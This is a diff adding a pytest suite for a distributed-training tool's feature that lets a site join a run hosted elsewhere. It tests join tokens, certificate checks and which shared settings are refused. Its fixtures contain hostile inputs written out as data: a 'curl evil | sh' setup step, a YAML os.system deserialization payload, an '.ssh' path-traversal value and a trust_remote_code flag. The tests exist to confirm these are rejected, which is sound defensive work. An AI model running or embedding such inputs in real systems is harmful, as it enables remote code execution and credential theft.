@@ -1,0 +1,435 @@
+"""Joining a run from another site: what is taken from there, what is refused, who sees the line."""
+
+from __future__ import annotations
+
+import json
+import socket
+import ssl
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager, suppress
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from isles.cli import main
+from isles.config.load import load_run_file
+from isles.config.resolve import dump_resolved, resolve
+from isles.config.shared import shared_text
+from isles.errors import CommunicationError, ConfigError, ConfigErrors, PreflightError, UserError
+from isles.launch.join_cluster import Site, joining_run, read_join_line
+from isles.launch.login import copied_file_script, place_there
+from isles.launch.meeting import end_rendezvous, listen_address, local_line, open_rendezvous
+from isles.launch.node import READY
+from isles.launch.start import Started, StartOptions, start
+from isles.rundir.ask import ask_rendezvous
+from isles.rundir.fleet import Fleet, FleetNode
+from isles.rundir.join_line import JoinLine
+from isles.rundir.paths import RunDir
+
+RUN = """\
+name: tiny
+output_dir: /home/a/runs
+model: {name_or_path: llama-2m, init: scratch}
+tokenizer: {train_vocab_size: 300}
+data: {sources: [{path: python-docs}], seq_length: 32, cache_dir: /home/a/cache}
+training: {max_steps: 8, global_batch_size: 4, micro_batch_size: 2, max_time: 1h}
+outer: {kind: diloco, sync_every: 4, public: "hub.example.org:29400", max_rate: 1MB}
+track: [{kind: wandb, project: secret-project}]
+clusters:
+  - name: alps
+    launcher: {kind: slurm, login: someone@login.alps, account: ours}
+    gpus_per_node: 8
+    environment: {setup: [curl evil | sh], variables: {WHO: me}}
+"""
+TOKEN = "T" * 42 + "A"
+LINE = f"isles://127.0.0.1:1/tiny#{TOKEN}.{TOKEN}"
+
+
+def given(tmp_path: Path, text: str = RUN, **changes: Any) -> str:
+    """What a rendezvous gives to others of a run file, with some values changed in it."""
+    content = yaml.safe_load(text)
+    for key, value in changes.items():
+        content[key] = {**content[key], **value}
+    path = tmp_path / "theirs.yaml"
+    path.write_text(yaml.safe_dump(content))
+    return shared_text(load_run_file(path).config)
+
+
+@pytest.fixture(scope="module")
+def state(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    """The state directory of a rendezvous that runs."""
+    folder = tmp_path_factory.mktemp("meeting")
+    state = folder / "state"
+    _, is_new = open_rendezvous(
+        state, run="tiny", settings={}, listen="127.0.0.1:0", run_file=given(folder)
+    )
+    assert is_new
+    yield state
+    assert end_rendezvous(state) and not end_rendezvous(state)
+
+
+@pytest.fixture
+def line(state: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> JoinLine:
+    """Its join line; it gives the run file again, whatever the last test has put there."""
+    monkeypatch.chdir(tmp_path)
+    (state / "run.yaml").write_text(given(tmp_path))
+    return JoinLine.read(state / "join")
+
+
+def faults(line: JoinLine, site: Site) -> str:
+    with pytest.raises(ConfigErrors) as caught:
+        joining_run(line, site)
+    return str(caught.value)
+
+
+def test_what_is_given_says_nothing_of_machines_folders_or_people(tmp_path: Path) -> None:
+    text = given(tmp_path)
+    for word in (
+        "/home/a",
+        "wandb",
+        "alps",
+        "evil",
+        "WHO",
+        "hub.example",
+        "max_rate",
+        "1h",
+        "  mic",
+    ):
+        assert word not in text
+    assert yaml.safe_load(text)["training"]["max_steps"] == 8
+    limited = RUN.replace("max_steps: 8,", "lr_scheduler_type: constant,")
+    assert yaml.safe_load(given(tmp_path, limited))["training"]["max_time"] == "1h", "its length"
+
+
+def test_a_cluster_needs_no_run_file(line: JoinLine) -> None:
+    words = ("launcher.partition=gpu", "nodes=4", "gpus-per-node=8", "output_dir=/x")
+    found = joining_run(line, Site(None, words, "home", "slurm"))
+    config = found.config
+    assert config.name == "tiny-home" and config.output_dir == "/x"
+    (cluster,) = config.clusters
+    assert cluster.name == "home" and cluster.nodes == 4 and cluster.gpus_per_node == 8
+    assert cluster.launcher.model_dump()["partition"] == "gpu"
+    assert cluster.environment.setup == () and config.track == ("jsonl", "tensorboard")
+    assert config.training.max_steps == 8 and config.training.micro_batch_size == "auto"
+    assert config.diloco is not None and config.diloco.sync_every == 4
+    assert config.diloco.max_rate is None and config.diloco.public is None
+    # Where a value is from can be seen, and the text of the run says it all again.
+    assert found.origins["training.max_steps"] == f"tiny@{line.address}"
+    assert found.origins["clusters.0.nodes"] == "command line"
+    again = load_run_file(Path("again.yaml"), text=found.text)
+    assert again.config == config
+
+
+def test_a_run_file_of_the_site_needs_only_its_clusters(line: JoinLine, tmp_path: Path) -> None:
+    path = tmp_path / "site.yaml"
+    path.write_text("clusters: [{name: a, nodes: 2}, {name: b, device: cpu}]\ntrack: []\n")
+    found = joining_run(line, Site(path, ("strategy.kind=fsdp",), "b"))
+    assert found.config.clusters[0].device == "cpu" and found.config.track == ()
+    assert found.config.strategy.kind == "fsdp"
+    for name, what in (("", "which cluster"), ("c", "has no cluster c")):
+        with pytest.raises(ConfigError, match=what) as caught:
+            joining_run(line, Site(path, (), name))
+        assert "a, b" in caught.value.fix
+    path.write_text("clusters: [{launcher: {kind: local}}]\n")
+    assert joining_run(line, Site(path, (), "d")).config.clusters[0].name == "d"
+    assert "--on ssh, and d has local" in faults(line, Site(path, (), "d", "ssh"))
+
+
+def test_what_must_be_equal_is_compared_by_key(line: JoinLine, tmp_path: Path) -> None:
+    path = tmp_path / "site.yaml"
+    path.write_text(RUN.replace("max_steps: 8", "max_steps: 9").replace("alps", "b"))
+    site = Site(path, ("outer.lr=0.5", "outer.engine=gloo", "seed=3"), "b")
+    text = faults(line, site)
+    assert f"{path}:6 training.max_steps: 9 here, and 8 in the run" in text
+    assert "command line outer.lr: 0.5 here, and 0.7" in text
+    assert "outer.engine: gloo here, and hub" in text and "seed: 3 here" in text
+    assert text.count(" here, and ") == 4
+    own = (
+        "data.sources.0.path=x.txt",
+        "training.global_batch_size=8",
+        "training.precision=32-true",
+    )
+    path.write_text(RUN.replace("alps", "b"))
+    assert joining_run(line, Site(path, own)).config.training.global_batch_size == 8
+
+
+@pytest.mark.parametrize(
+    ("changes", "typed", "what"),
+    [
+        ({"model": {"trust_remote_code": True}}, "model.trust_remote_code=true", "Python code"),
+        ({"model": {"name_or_path": "/home/a/m"}}, "model.name_or_path=m", "a path of their own"),
+        (
+            {"data": {"sources": [{"path": "../../.ssh/id"}]}},
+            "data.sources.0.path=text",
+            "data.sources.0.path=PATH",
+        ),
+        ({"data": {"sources": [{"path": "~/x"}]}}, "data.sources.0.path=~/x", "~/x"),
+    ],
+)
+def test_nothing_from_elsewhere_is_trusted(
+    line: JoinLine, state: Path, tmp_path: Path, changes: dict[str, Any], typed: str, what: str
+) -> None:
+    (state / "run.yaml").write_text(given(tmp_path, **changes))
+    assert what in faults(line, Site(name="b"))
+    joining_run(line, Site(None, (typed,), "b"))
+
+
+@pytest.mark.parametrize(
+    ("text", "what"),
+    [
+        ("name: x\n", "does not take"),
+        ("!!python/object/apply:os.system [touch /tmp/x]", "does not take"),
+        ("name: t\ntraining: {script: x.py}\n", "not of several clusters"),
+        (RUN.replace("clusters:", "nonsense: 3\nclusters:"), "nonsense"),
+    ],
+)
+def test_a_rendezvous_may_say_what_it_likes(
+    line: JoinLine, state: Path, text: str, what: str
+) -> None:
+    (state / "run.yaml").write_text(text)
+    with pytest.raises(PreflightError, match=what) as caught:
+        joining_run(line, Site(name="b"))
+    assert caught.value.fix
+    # Even if it were to send what it must not: a script, and where this machine writes.
+    (state / "run.yaml").write_text(RUN)
+    found = joining_run(line, Site(name="b", overrides=("data.sources.0.path=x",)))
+    assert found.config.output_dir == "runs" and "evil" not in found.text
+
+
+@contextmanager
+def stranger(says: bytes) -> Iterator[int]:
+    """Something that is no rendezvous, and says this to whoever comes; its port."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+
+        def serve() -> None:
+            with suppress(OSError):
+                while True:
+                    held.append(server.accept()[0])
+                    held[-1].sendall(says)
+
+        held: list[socket.socket] = []
+        thread = threading.Thread(target=serve, daemon=True)
+        thread.start()
+        yield server.getsockname()[1]
+        server.shutdown(socket.SHUT_RDWR)
+        thread.join(20)
+        for connection in held:
+            connection.close()
+
+
+def test_who_does_not_answer_is_named(line: JoinLine, state: Path) -> None:
+    assert ask_rendezvous(line, "/v1/status", 20)["run"] == "tiny"
+    assert local_line(state) == line
+    for other, kind, what in (
+        (replace(line, token=TOKEN), PreflightError, "token"),
+        (replace(line, fingerprint=b"x" * 32), PreflightError, "certificate"),
+        (replace(line, host="nowhere.invalid"), CommunicationError, "no host nowhere.invalid"),
+    ):
+        with pytest.raises(kind, match=what) as caught:
+            ask_rendezvous(other, "/v1/status", 20)
+        assert line.token not in str(caught.value) and caught.value.fix
+    with stranger(b"SSH-2.0\r\n" * 9) as port, pytest.raises(PreflightError, match="no rendezvous"):
+        ask_rendezvous(replace(line, port=port), "/v1/status", 20)
+    with pytest.raises(CommunicationError, match="no rendezvous listens"):
+        ask_rendezvous(replace(line, port=port), "/v1/status", 20)
+    with stranger(b"") as port, pytest.raises(CommunicationError, match=r"within 0\.2 s"):
+        ask_rendezvous(replace(line, port=port), "/v1/status", 0.2)
+
+
+def test_a_rendezvous_is_found_again_and_not_changed_under_way(state: Path, tmp_path: Path) -> None:
+    line = JoinLine.read(state / "join")
+    same = {"run": "tiny", "settings": {}, "listen": "127.0.0.1:0"}
+    assert open_rendezvous(state, **same) == (line, False)  # type: ignore[arg-type]
+    with pytest.raises(ConfigError, match=r"runs already .* with settings"):
+        open_rendezvous(state, **{**same, "settings": {"min_clusters": 2}})  # type: ignore[arg-type]
+    with pytest.raises(PreflightError, match=f"cannot listen at 127.0.0.1:{line.port}"):
+        open_rendezvous(
+            tmp_path / "other", run="tiny", settings={}, listen=f"127.0.0.1:{line.port}"
+        )
+
+
+def test_where_a_rendezvous_listens() -> None:
+    assert listen_address("", "") == "127.0.0.1:0", "nobody else, unless it is said"
+    assert listen_address("127.0.0.1:29400", "") == "127.0.0.1:29400"
+    assert listen_address("192.0.2.77:29400", "") == "0.0.0.0:29400", "behind a router"
+    assert listen_address("192.0.2.77:443", "127.0.0.1:29400") == "127.0.0.1:29400"
+    for public, listen in (
+        ("", "192.0.2.77:1"),
+        ("", "0.0.0.0:29400"),
+        ("nothing", ""),
+        ("", "x:y"),
+    ):
+        with pytest.raises(ConfigError) as caught:
+            listen_address(public, listen)
+        assert caught.value.where in ("--listen", "--public") and caught.value.fix
+
+
+def test_the_line_is_read_from_a_file_stdin_or_the_command(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "line").write_text(f"{LINE}\n")
+    with (tmp_path / "line").open() as stdin:
+        monkeypatch.setattr(sys, "stdin", stdin)
+        assert read_join_line("-") == read_join_line(LINE) == read_join_line(str(tmp_path / "line"))
+    assert main(["join", str(tmp_path / "nothing")]) == 1
+    assert main(["join", LINE[:-3]]) == 1
+    said = capsys.readouterr().err
+    assert "there is no such file" in said and "not a join line" in said and TOKEN not in said
+
+
+# Delivery.
+
+
+def options(tmp_path: Path, *overrides: str, **more: Any) -> StartOptions:
+    path = tmp_path / "own.yaml"
+    path.write_text(
+        "name: own\nmodel: {name_or_path: llama-2m, init: scratch}\n"
+        "data: {sources: [{type: fake}], seq_length: 32}\n"
+        "training: {max_steps: 8, global_batch_size: 4}\n"
+        f"outer: {{kind: diloco, sync_every: 4}}\noutput_dir: {tmp_path}/runs\n"
+        "clusters: [{device: cpu, gpus_per_node: 1}]\n"
+    )
+    return StartOptions(path, overrides, "auto", False, str, str, join=LINE, **more)
+
+
+def assert_only_in_its_file(run_dir: RunDir) -> None:
+    """The line is in the file `join`, which others cannot read, and nowhere else."""
+    assert run_dir.join_line.read_text() == f"{LINE}\n"
+    assert run_dir.join_line.stat().st_mode & 0o777 == 0o600
+    files = [path for path in run_dir.path.rglob("*") if path.is_file()]
+    assert [path for path in files if TOKEN in path.read_text(errors="replace")] == [
+        run_dir.join_line
+    ]
+
+
+@pytest.mark.parametrize(("kind", "program"), [("pbs", "qsub"), ("slurm", "sbatch")])
+def test_a_queue_is_given_no_secret(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, program: str
+) -> None:
+    folder = tmp_path / "bin"
+    folder.mkdir()
+    said = tmp_path / "said"
+    for name, text in {
+        program: f'{{ env; echo "$@"; for f; do :; done; cat "$f"; }} > {said}; echo 7',
+        "qstat": "[ $1 = --version ] && echo pbs_version = 23 || echo '    job_state = Q'",
+        "squeue": "echo 7",
+    }.items():
+        (folder / name).write_text(f"#!/bin/sh\n{text}\n")
+        (folder / name).chmod(0o755)
+    monkeypatch.chdir(tmp_path)
+    launcher = f"clusters.0.launcher={{kind: {kind}, time: 1h, bin_path: {folder}}}"
+    asked = options(tmp_path, launcher)
+    assert TOKEN not in repr(asked)
+    shown = start(replace(asked, dry_run=True))
+    assert isinstance(shown, str) and TOKEN not in shown
+    started = start(asked)
+    assert isinstance(started, Started)
+    assert "ISLES_RUN_DIR" in said.read_text() and TOKEN not in said.read_text()
+    assert_only_in_its_file(started.run_dir)
+
+
+def test_by_hand_it_lies_on_the_first_node_and_a_new_one_replaces_it(tmp_path: Path) -> None:
+    asked = options(tmp_path, "clusters.0.launcher={kind: manual, hosts: [127.0.0.1]}")
+    started = start(asked)
+    assert isinstance(started, Started) and TOKEN not in started.text
+    assert_only_in_its_file(started.run_dir)
+    for path in started.attempt.path.iterdir():
+        path.unlink()
+    started.attempt.path.rmdir()
+    for join, kept in (("", LINE), (other := LINE.replace("127.0.0.1", "127.0.0.2"), other)):
+        again = start(replace(asked, resume=str(started.run_dir.path), join=join))
+        assert isinstance(again, Started) and again.run_dir.path == started.run_dir.path
+        assert again.run_dir.join_line.read_text() == f"{kept}\n"
+        (again.attempt.path / "launch.json").unlink()
+
+
+def test_a_run_of_one_cluster_is_given_none(tmp_path: Path) -> None:
+    with pytest.raises(UserError, match="averages with no other") as caught:
+        start(options(tmp_path, "outer={kind: none}"))
+    assert "outer" in caught.value.where and TOKEN not in str(caught.value)
+
+
+def test_over_ssh_it_travels_by_stdin_to_the_first_host(run_file: Path) -> None:
+    """`isles.launch.node` there is what ssh starts."""
+    loaded = load_run_file(run_file, ["outer={kind: diloco, sync_every: 5}"])
+    fleet = Fleet(
+        launcher="ssh",
+        nodes=(FleetNode(0, "a", "a", "127.0.0.1", 1),),
+        port=29500,
+        min_nodes=1,
+        device="cpu",
+        start_timeout_s=60.0,
+        digest="",
+    )
+    args = {
+        "resolved": dump_resolved(resolve(loaded, num_gpus=0)),
+        "text": loaded.text,
+        "resume": "auto",
+        "join": LINE,
+        "fleet": fleet.record(),
+        "dry_run": False,
+    }
+    command = [sys.executable, "-m", "isles.launch.node"]
+    pipe = subprocess.PIPE
+    with subprocess.Popen(command, stdin=pipe, stdout=pipe, text=True) as node:
+        assert node.stdin is not None and node.stdout is not None
+        said = node.stdout.readline()
+        for op, values in (("begin", args), ("end", {"what": "enough"})):
+            node.stdin.write(json.dumps({"id": 1, "op": op, "args": values}) + "\n")
+            node.stdin.flush()
+            said += node.stdout.readline()
+        node.stdin.close()
+    assert said.startswith(READY) and "begun_at" in said and "error" not in said
+    assert TOKEN not in said
+    assert_only_in_its_file(RunDir(run_file.parent / "runs" / "tiny-1"))
+
+
+def test_over_a_login_node_it_is_the_first_line_of_stdin(tmp_path: Path) -> None:
+    """By bash there, which starts isles; here a small program stands for it."""
+    there = place_there(load_run_file(options(tmp_path).path))
+    program = tmp_path / "python"
+    program.write_text('#!/bin/sh\necho "$@"\nshift 2\ncat "$1" "$2"; stat -c %a $(dirname "$1")\n')
+    program.chmod(0o755)
+    secret = f"{there.rpartition('/')[0]}/join-line"
+    script = copied_file_script(there, [], str(program), [there, secret], secret=secret)
+    assert TOKEN not in script
+    text = "name: x\n\n  odd: \\n %s 'quoted'\n"
+    done = subprocess.run(
+        ["bash", "-c", script],
+        input=f"{LINE}\n{text}",
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=True,
+    )
+    assert done.stdout == f"-m isles {there} {secret}\n{text}{LINE}\n700\n"
+    assert not Path(there).parent.exists()
+
+
+def test_a_stranger_with_a_certificate_of_its_own_gets_no_token(
+    line: JoinLine, state: Path
+) -> None:
+    """It is told nothing before its certificate is looked at."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(state / "certificate.pem", state / "key.pem")
+    heard: list[bytes] = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+
+        def serve() -> None:
+            connection, _ = server.accept()
+            with connection, context.wrap_socket(connection, server_side=True) as tls:
+                heard.append(tls.recv(1 << 16))
+
+        thread = threading.Thread(target=serve, daemon=True)
+        thread.start()
+        other = replace(line, port=server.getsockname()[1], fingerprint=b"x" * 32)
+        with pytest.raises(PreflightError, match="certificate"):
+            ask_rendezvous(other, "/v1/status", 20)
+        thread.join(20)
+    assert heard == [b""] or not heard
